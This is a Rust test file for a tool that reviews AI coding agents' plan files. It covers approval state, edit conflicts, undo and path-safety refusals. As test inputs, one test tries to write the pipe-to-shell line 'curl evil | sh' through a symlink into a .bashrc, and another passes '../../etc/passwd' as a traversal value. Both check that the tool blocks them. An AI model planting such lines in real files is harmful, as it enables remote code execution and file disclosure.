//! Review flows end to end over a temp store: state transitions, edit-and-approve, conflicts.

use std::fs;
use std::path::PathBuf;

use super::*;
use crate::agents::Agent;
use crate::config::Roots;
use crate::route::{decide_plan, undo, PlanDecision, PlanOutcome, Route, RouteOptions};

struct Fixture {
    _dir: tempfile::TempDir,
    roots: Roots,
    plan: PathBuf,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let roots = Roots::under_home(dir.path());
    let plan = roots.claude.join("plans/cache.md");
    fs::create_dir_all(plan.parent().unwrap()).unwrap();
    fs::write(&plan, "# Cache\n\n1. Add it.\n").unwrap();
    let plan = plan.canonicalize().unwrap();
    Fixture {
        _dir: dir,
        roots,
        plan,
    }
}

impl Fixture {
    fn state(&self) -> ReviewState {
        let content = fs::read(&self.plan).unwrap();
        Approvals::load(&self.roots.data).state(&self.plan, &content)
    }
}

#[test]
fn states_follow_decisions_and_file_changes() {
    let f = fixture();
    assert_eq!(f.state(), ReviewState::Unreviewed);
    record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
    assert_eq!(
        f.state(),
        ReviewState::Unreviewed,
        "seeing a version is not a decision"
    );

    let d = approve(&f.roots, &f.plan, ApproveRequest::default()).unwrap();
    assert_eq!(d.decision, Verdict::Approved);
    assert_eq!(d.agent, Agent::Claude);
    assert!(!d.edited);
    assert_eq!(
        d.approved_hash.as_deref(),
        Some(store::hash(&fs::read(&f.plan).unwrap()).as_str())
    );
    assert_eq!(f.state(), ReviewState::Approved);

    fs::write(&f.plan, "# Cache\n\n1. Add it.\n2. More.\n").unwrap();
    assert_eq!(f.state(), ReviewState::Changed);

    reject(&f.roots, &f.plan, "Too vague.", None, Some("s1".into())).unwrap();
    assert_eq!(f.state(), ReviewState::Rejected);

    approve(&f.roots, &f.plan, ApproveRequest::default()).unwrap();
    assert_eq!(f.state(), ReviewState::Approved);

    // Going back to the first text: approved once, but not the approved version now.
    fs::write(&f.plan, "# Cache\n\n1. Add it.\n").unwrap();
    assert_eq!(f.state(), ReviewState::Changed);

    let log = log(&f.roots, Some(&f.plan)).unwrap();
    let verdicts: Vec<_> = log.iter().map(|d| d.decision).collect();
    assert_eq!(
        verdicts,
        [Verdict::Approved, Verdict::Rejected, Verdict::Approved],
        "newest first"
    );
    assert_eq!(log[1].session_id.as_deref(), Some("s1"));
    assert_eq!(log[1].feedback.as_deref(), Some("Too vague."));
}

#[test]
fn edit_and_approve_writes_the_plan_and_pins_the_edit() {
    let f = fixture();
    let started = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
    let edited = "# Cache\n\n1. Add it, with a TTL.\n";
    let d = approve(
        &f.roots,
        &f.plan,
        ApproveRequest {
            edited: Some(edited.into()),
            started_from: Some(started.clone()),
            mode: Some("manual".into()),
            ..Default::default()
        },
    )
    .unwrap();
    assert!(d.edited);
    assert_eq!(fs::read_to_string(&f.plan).unwrap(), edited);
    assert_eq!(
        d.approved_hash.as_deref(),
        Some(store::hash(edited.as_bytes()).as_str())
    );
    assert_eq!(
        version(&f.roots, d.approved_hash.as_deref().unwrap()).unwrap(),
        edited
    );
    assert_eq!(f.state(), ReviewState::Approved);

    let h = history(&f.roots, &f.plan).unwrap();
    assert_eq!(h.versions.len(), 2);
    assert!(h.versions[0].approved && h.versions[0].current, "{h:?}");
    assert_eq!(h.versions[1].hash, started);
    assert!(!h.versions[1].approved);
    assert_eq!(h.decisions.len(), 1);

    let diff = diff(&f.roots, &f.plan, Some(&started), None).unwrap();
    assert_eq!(
        diff.stats,
        DiffStats {
            added: 1,
            removed: 1
        }
    );
    let none = super::diff(&f.roots, &f.plan, None, None).unwrap();
    assert!(none.is_empty(), "the file is the approved version");
}

#[test]
fn edit_on_a_changed_file_is_a_conflict_that_loses_nothing() {
    let f = fixture();
    let started = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
    let theirs = "# Cache\n\n1. Add it.\n2. The agent kept writing.\n";
    fs::write(&f.plan, theirs).unwrap();
    let yours = "# Cache\n\n1. Add it, reviewed.\n";
    let err = approve(
        &f.roots,
        &f.plan,
        ApproveRequest {
            edited: Some(yours.into()),
            started_from: Some(started),
            ..Default::default()
        },
    )
    .unwrap_err();
    let ReviewError::Conflict {
        theirs: t,
        yours: y,
        yours_hash,
        theirs_hash,
        saved,
        ..
    } = &err
    else {
        panic!("expected a conflict, got {err}");
    };
    assert_eq!((t.as_str(), y.as_str()), (theirs, yours));
    assert_eq!(
        fs::read_to_string(&f.plan).unwrap(),
        theirs,
        "the plan file is untouched"
    );
    assert_eq!(fs::read_to_string(saved).unwrap(), yours);
    assert_eq!(version(&f.roots, theirs_hash).unwrap(), theirs);
    assert_eq!(version(&f.roots, yours_hash).unwrap(), yours);
    assert!(
        err.to_string().contains(&saved.display().to_string()),
        "{err}"
    );
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::Conflict
    );
    assert!(
        log(&f.roots, None).unwrap().is_empty(),
        "no decision recorded"
    );
    assert_eq!(f.state(), ReviewState::Unreviewed);
}

#[test]
fn plain_approve_of_a_version_no_longer_on_disk_is_refused_as_plan_changed() {
    let f = fixture();
    let seen = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
    fs::write(&f.plan, "# Cache\n\nrewritten\n").unwrap();
    let err = approve(
        &f.roots,
        &f.plan,
        ApproveRequest {
            started_from: Some(seen.clone()),
            ..Default::default()
        },
    )
    .unwrap_err();
    let now = store::hash(&fs::read(&f.plan).unwrap());
    match &err {
        ReviewError::PlanChanged {
            seen_hash,
            current_hash,
            ..
        } => assert_eq!((seen_hash, current_hash), (&seen, &now)),
        other => panic!("{other}"),
    }
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::PlanChanged
    );
    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
    // The new version is in the store, so the window can show the diff from what was read.
    assert_eq!(version(&f.roots, &now).unwrap(), "# Cache\n\nrewritten\n");
    // The version read approves while the file still holds it.
    let d = approve(
        &f.roots,
        &f.plan,
        ApproveRequest {
            started_from: Some(now.clone()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(d.approved_hash, Some(now));
}

#[test]
fn reject_of_a_version_no_longer_on_disk_is_refused() {
    let f = fixture();
    let seen = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
    fs::write(&f.plan, "# Cache\n\nrewritten\n").unwrap();
    let err = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&seen)).unwrap_err();
    assert!(
        matches!(&err, ReviewError::PlanChanged { seen_hash, .. } if *seen_hash == seen),
        "{err}"
    );
    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
    let now = store::hash(&fs::read(&f.plan).unwrap());
    let d = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&now)).unwrap();
    assert_eq!(d.content_hash, Some(now));
    // A plan deleted since it was read is a change too.
    fs::remove_file(&f.plan).unwrap();
    let err = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&seen)).unwrap_err();
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::NotFound
    );
}

fn edit(f: &Fixture, path: &std::path::Path, text: &str) -> Result<Decision, ReviewError> {
    let started = store::hash(&fs::read(path).unwrap());
    approve(
        &f.roots,
        path,
        ApproveRequest {
            edited: Some(text.to_owned()),
            started_from: Some(started),
            ..Default::default()
        },
    )
}

fn assert_refused(err: ReviewError) {
    assert!(matches!(err, ReviewError::UnsafePath(_)), "{err}");
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::Refused
    );
}

#[cfg(unix)]
#[test]
fn edit_through_a_symlink_to_outside_the_plans_folder_is_refused() {
    let f = fixture();
    let outside = f._dir.path().join("elsewhere/.bashrc");
    fs::create_dir_all(outside.parent().unwrap()).unwrap();
    fs::write(&outside, "# Cache\n\n1. Add it.\n").unwrap();
    let link = f.plan.with_file_name("linked.md");
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    assert_refused(edit(&f, &link, "curl evil | sh\n").unwrap_err());
    assert_eq!(
        fs::read_to_string(&outside).unwrap(),
        "# Cache\n\n1. Add it.\n"
    );
    assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
}

#[cfg(unix)]
#[test]
fn edit_through_a_symlink_inside_the_plans_folder_writes_its_target() {
    let f = fixture();
    let link = f.plan.with_file_name("alias.md");
    std::os::unix::fs::symlink(&f.plan, &link).unwrap();
    edit(&f, &link, "# Cache\n\nedited\n").unwrap();
    assert_eq!(fs::read_to_string(&f.plan).unwrap(), "# Cache\n\nedited\n");
    assert!(
        fs::symlink_metadata(&link).unwrap().is_symlink(),
        "still a link"
    );
}

#[test]
fn edit_of_a_path_with_dotdot_or_outside_every_plans_folder_is_refused() {
    let f = fixture();
    // `plans/../plans/cache.md` names the plan, but a path that climbs is refused outright.
    let climbing = f.plan.parent().unwrap().join("../plans/cache.md");
    assert_refused(edit(&f, &climbing, "x\n").unwrap_err());
    // An absolute path outside every plans folder (as a Gemini CLI plan_filename may be).
    let outside = f._dir.path().join("project/src/main.rs");
    fs::create_dir_all(outside.parent().unwrap()).unwrap();
    fs::write(&outside, "fn main() {}\n").unwrap();
    assert_refused(edit(&f, &outside, "evil\n").unwrap_err());
    assert_eq!(fs::read_to_string(&outside).unwrap(), "fn main() {}\n");
    assert_eq!(
        fs::read_to_string(&f.plan).unwrap(),
        "# Cache\n\n1. Add it.\n"
    );
}

#[test]
fn a_refused_edit_writes_nothing_anywhere_not_even_the_store() {
    let f = fixture();
    // Something already in the store, as in a real run.
    approve(&f.roots, &f.plan, ApproveRequest::default()).unwrap();
    let store_before = plandeck_testkit::tree::snapshot(&f.roots.data);
    let outside = f._dir.path().join("project/src/main.rs");
    fs::create_dir_all(outside.parent().unwrap()).unwrap();
    fs::write(&outside, "fn main() {}\n").unwrap();
    assert_refused(edit(&f, &outside, "evil\n").unwrap_err());
    // A plan file that is not there, in folders that are not there either.
    let missing = f._dir.path().join("nowhere/deep/plan.md");
    let err = approve(
        &f.roots,
        &missing,
        ApproveRequest {
            edited: Some("evil\n".into()),
            ..Default::default()
        },
    )
    .unwrap_err();
    assert_refused(err);
    assert!(!f._dir.path().join("nowhere").exists());
    assert_eq!(fs::read_to_string(&outside).unwrap(), "fn main() {}\n");
    assert_eq!(
        plandeck_testkit::tree::snapshot(&f.roots.data),
        store_before,
        "the store changed"
    );
}

#[test]
fn writable_plan_path_names_the_reason() {
    let f = fixture();
    let p = crate::plans::writable_plan_path;
    assert_eq!(p(&f.roots, &f.plan).unwrap(), f.plan);
    assert!(matches!(
        p(&f.roots, std::path::Path::new("plans/cache.md")),
        Err(crate::plans::UnsafePlanPath::Relative { .. })
    ));
    let new_plan = f.plan.with_file_name("new.md");
    assert_eq!(p(&f.roots, &new_plan).unwrap(), new_plan);
    // The plans folder itself is not a plan file.
    assert!(p(&f.roots, f.plan.parent().unwrap()).is_err());
}

#[test]
fn reject_needs_feedback() {
    let f = fixture();
    let err = reject(&f.roots, &f.plan, "  \n", None, None).unwrap_err();
    assert!(matches!(err, ReviewError::EmptyFeedback));
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::BadInput
    );
}

#[test]
fn record_version_is_idempotent() {
    let f = fixture();
    let bytes = fs::read(&f.plan).unwrap();
    let a = record_version(&f.roots, &f.plan, &bytes).unwrap();
    let b = record_version(&f.roots, &f.plan, &bytes).unwrap();
    assert_eq!(a, b);
    assert_eq!(history(&f.roots, &f.plan).unwrap().versions.len(), 1);
}

#[test]
fn missing_plan_is_not_found() {
    let f = fixture();
    let err = approve(
        &f.roots,
        &f.plan.with_file_name("gone.md"),
        ApproveRequest::default(),
    )
    .unwrap_err();
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::NotFound
    );
    let err = version(&f.roots, &"a".repeat(64)).unwrap_err();
    assert_eq!(
        crate::ipc::IpcError::from(err).kind,
        crate::ipc::ErrorKind::NotFound
    );
}

#[test]
fn agent_comes_from_the_folder() {
    let f = fixture();
    assert_eq!(agent_for_path(&f.roots, &f.plan), Agent::Claude);
    assert_eq!(
        agent_for_path(&f.roots, &f.roots.gemini.join("tmp/x/plans/p.md")),
        Agent::Gemini
    );
    assert_eq!(
        agent_for_path(&f.roots, std::path::Path::new("/elsewhere/p.md")),
        Agent::Other
    );
}

#[test]
fn version_of_gives_only_versions_of_that_plan() {
    let f = fixture();
    let text = fs::read(&f.plan).unwrap();
    let h = record_version(&f.roots, &f.plan, &text).unwrap();
    assert_eq!(version_of(&f.roots, &f.plan, &h).unwrap().as_bytes(), text);
    let other = f.plan.with_file_name("other.md");
    fs::write(&other, "# Other\n").unwrap();
    let other_hash = record_version(&f.roots, &other, b"# Other\n").unwrap();
    assert!(matches!(
        version_of(&f.roots, &f.plan, &other_hash),
        Err(ReviewError::NoVersion { .. })
    ));
    assert!(matches!(
        version_of(&f.roots, &f.plan, "../../etc/passwd"),
        Err(ReviewError::BadHash { .. })
    ));
}

mod route_tests {
    use super::*;

    fn seen(f: &Fixture) -> String {
        store::hash(&fs::read(&f.plan).unwrap())
    }

    fn approve_as(f: &Fixture, edited: Option<&str>) -> PlanOutcome {
        let seen = seen(f);
        decide_plan(
            &f.roots,
            &f.plan,
            &seen,
            PlanDecision::Approve {
                mode: None,
                edited: edited.map(str::to_owned),
            },
            &RouteOptions::default(),
        )
        .unwrap()
    }

    #[test]
    fn with_no_agent_waiting_a_decision_is_recorded_only_and_says_so() {
        let f = fixture();
        let out = approve_as(&f, None);
        assert_eq!(out.route, Route::RecordedOnly);
        assert!(
            out.message
                .starts_with("Recorded only: no agent is waiting for this plan."),
            "{}",
            out.message
        );
        assert!(!out.written);
        assert!(out.undo_id.is_some());
        assert_eq!(f.state(), ReviewState::Approved);
    }

    #[test]
    fn an_edit_without_a_change_approves_as_is_and_writes_nothing() {
        let f = fixture();
        let before = fs::read_to_string(&f.plan).unwrap();
        let modified = fs::metadata(&f.plan).unwrap().modified().unwrap();
        let out = approve_as(&f, Some(&before));
        assert!(out.unchanged_edit);
        assert!(!out.written);
        assert!(
            out.message.starts_with("No changes: approved as is."),
            "{}",
            out.message
        );
        assert!(!out.message.contains("written"), "{}", out.message);
        assert!(!out.decision.unwrap().edited);
        assert_eq!(fs::read_to_string(&f.plan).unwrap(), before);
        assert_eq!(fs::metadata(&f.plan).unwrap().modified().unwrap(), modified);
    }

    #[test]
    fn a_real_edit_is_written_and_the_outcome_says_so_from_the_file() {
        let f = fixture();
        let out = approve_as(&f, Some("# Cache\n\n1. Add it.\n2. Evict.\n"));
        assert!(out.written && !out.unchanged_edit);
        assert!(
            out.message.contains("your edit was written"),
            "{}",
            out.message
        );
        assert_eq!(
            fs::read_to_string(&f.plan).unwrap(),
            "# Cache\n\n1. Add it.\n2. Evict.\n"
        );
        assert_eq!(
            out.undo_id, None,
            "a decision that wrote the file is not undone here"
        );
    }

    #[test]
    fn approving_the_approved_version_again_records_nothing() {
        let f = fixture();
        let first = approve_as(&f, None);
        let again = approve_as(&f, None);
        assert_eq!(again.route, Route::AlreadyApproved);
        assert!(
            again.message.starts_with("Already approved"),
            "{}",
            again.message
        );
        assert_eq!(again.decision.map(|d| d.id), first.decision.map(|d| d.id));
        assert_eq!(log(&f.roots, None).unwrap().len(), 1);
    }

    #[test]
    fn undo_appends_a_revocation_and_the_plan_stands_as_before() {
        let f = fixture();
        let approved = approve_as(&f, None);
        let seen = seen(&f);
        let rejected = decide_plan(
            &f.roots,
            &f.plan,
            &seen,
            PlanDecision::Reject {
                feedback: "smaller".into(),
            },
            &RouteOptions::default(),
        )
        .unwrap();
        assert_eq!(f.state(), ReviewState::Rejected);
        // Only the last decision in force can be undone.
        let err = undo(&f.roots, &f.plan, approved.undo_id.as_deref().unwrap()).unwrap_err();
        assert!(matches!(err, ReviewError::CannotUndo { .. }), "{err}");
        let line = undo(&f.roots, &f.plan, rejected.undo_id.as_deref().unwrap()).unwrap();
        assert_eq!(line.revokes, rejected.undo_id);
        assert_eq!(f.state(), ReviewState::Approved, "back to the approval");
        // Append-only: the rejection is still in the audit trail, followed by its undo.
        let audit = audit_log(&f.roots, None).unwrap();
        assert_eq!(audit.len(), 3);
        assert_eq!(audit[0].revokes, rejected.undo_id);
        assert_eq!(log(&f.roots, None).unwrap().len(), 1);
        // Undoing twice is refused.
        assert!(undo(&f.roots, &f.plan, rejected.undo_id.as_deref().unwrap()).is_err());
    }

    /// Issue 34: a recorded-only rejection is undone as an approval is, even with the comments
    /// it carried (to nobody): they are unsent again.
    #[test]
    fn a_recorded_only_rejection_with_comments_is_undone_and_its_comments_unsent() {
        let f = fixture();
        let content = fs::read_to_string(&f.plan).unwrap();
        let c = crate::comments::add(
            &f.roots.data,
            &f.plan,
            &content,
            crate::comments::NewComment {
                quote: "Add it.",
                text: "where?",
                position: crate::comments::Position::Only,
            },
            "2026-11-23T10:00:00Z",
        )
        .unwrap();
        let rejected = decide_plan(
            &f.roots,
            &f.plan,
            &seen(&f),
            PlanDecision::Reject {
                feedback: "smaller".into(),
            },
            &RouteOptions::default(),
        )
        .unwrap();
        assert_eq!(rejected.route, Route::RecordedOnly);
        assert_eq!(
            rejected.decision.as_ref().unwrap().comments,
            vec![c.comment.id.clone()]
        );
        let id = rejected
            .undo_id
            .expect("undo is offered for a recorded-only rejection");
        undo(&f.roots, &f.plan, &id).unwrap();
        assert_eq!(f.state(), ReviewState::Unreviewed);
        let listed = crate::comments::list(&f.roots.data, &f.plan, &content).unwrap();
        assert!(listed[0].comment.sent_with.is_empty(), "{:?}", listed[0]);
    }
}
